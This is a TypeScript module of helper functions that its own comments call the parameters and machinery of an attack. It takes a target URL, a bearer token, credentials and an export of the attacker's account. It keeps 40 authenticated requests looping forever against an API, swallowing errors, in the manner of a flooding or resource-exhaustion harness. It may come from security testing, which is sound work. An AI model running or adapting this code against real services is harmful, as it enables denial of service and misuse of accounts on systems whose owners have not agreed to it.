import { setTimeout as sleep } from "node:timers/promises";

/** The parameters of an attack. */
export interface Target {
  url: string;
  token: string;
  username: string;
  password: string;
  /** An export of the attacker's own account, in base64. */
  archive: string;
}

type Caller = Pick<Target, "url" | "token">;

/** How many requests an attack keeps in progress. */
export const parallel = 40;

/** Repeats work forever, several at a time. */
export async function inParallel(work: () => Promise<void>, count = parallel): Promise<void> {
  await Promise.all(
    Array.from({ length: count }, async () => {
      for (;;) await work().catch(() => sleep(10));
    }),
  );
}

/** Repeats a request and reads its responses. */
export async function drain(
  target: Caller,
  method: string,
  path: string,
  content?: () => Content,
  count = parallel,
): Promise<void> {
  await inParallel(() => send(target, method, path, content?.()), count);
}

export interface Content {
  type: string;
  body: string | Uint8Array<ArrayBuffer> | ReadableStream;
}

/** Sends a request and reads its response. */
export async function send(
  { url, token }: Caller,
  method: string,
  path: string,
  content?: Content,
): Promise<void> {
  const response = await fetch(url + path, {
    method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(content === undefined ? {} : { "content-type": content.type }),
    },
    ...(content === undefined ? {} : { body: content.body, duplex: "half" }),
  });
  await response.arrayBuffer();
}

/** The parts of a response that are read. */
interface Named {
  id?: string;
  uploadURL?: string;
}

/** Calls the API with a JSON body; returns nothing if it does not respond. */
export async function json(
  { url, token }: Target,
  method: string,
  path: string,
  body?: unknown,
): Promise<Named> {
  const response = await fetch(url + path, {
    method,
    headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  }).catch(() => null);
  if (response === null) return {};
  return await response.json().then(
    (body) => body as Named,
    () => ({}),
  );
}
